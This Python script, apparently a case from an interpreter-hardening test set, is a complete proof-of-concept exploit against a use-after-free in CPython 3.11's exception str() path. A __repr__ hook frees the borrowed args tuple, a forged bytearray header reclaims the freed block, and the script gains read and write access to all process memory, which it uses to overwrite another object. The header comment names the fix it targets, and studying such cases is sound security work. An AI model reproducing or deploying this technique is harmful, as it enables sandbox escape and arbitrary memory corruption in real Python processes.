# family: wall (memory: a built-in exception's str() converts its args item borrowed; the conversion replaces args)   goal: memory   interpreter: /usr/bin/python3
# Of our own, the fourteenth round's family in BaseException: 3.11's BaseException_str
# calls str() on self->args[0] borrowed, and e.args (or e.__init__) replaces the tuple
# at any time. args[0] is a slice(X(), V(), None) held by the tuple alone; its repr
# (PyUnicode_FromFormat("slice(%R, %R, %R)") over its fields, no Py_ReprEnter) runs
# X.__repr__, which sets e.args = (): the tuple, the slice and V are freed. V's
# 80-byte block is taken back by bytearray(FAKE), a fake object of type BA, and the
# next %R runs BA.__repr__ on it: a bytearray over all memory. The wall:
# BaseException's __str__ and __repr__ (and KeyError's __str__) hold the args tuple
# for the call (exc_hold).
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __repr__(self):
        keep.append(self)              # self: the fake bytearray over all memory
        return "fake"
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]     # GC head, then a PyByteArrayObject; a 80-byte block
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")   # 80-byte block with its GC head
class X:
    def __repr__(self):
        e.args = ()                    # frees the old args tuple, the slice and V
        keep.append(bytearray(FAKE))   # takes V's block back
        return "x"
e = ValueError(slice(X(), V(), None))
try:
    print("str(e) ->", str(e))         # BaseException_str: str(args[0]) -> slice_repr
except Exception as exc:
    print("str:", type(exc).__name__, exc)
found = [k for k in keep if type(k) is BA]
if found:
    mem = found[0]
    print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
    target = bytearray(b"AAAAAAAA")    # another object's memory, written through the fake
    start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
    mem[start] = 0x42
    if target[0] == 0x42:
        print("MEMORY-OVERWRITTEN", bytes(target))
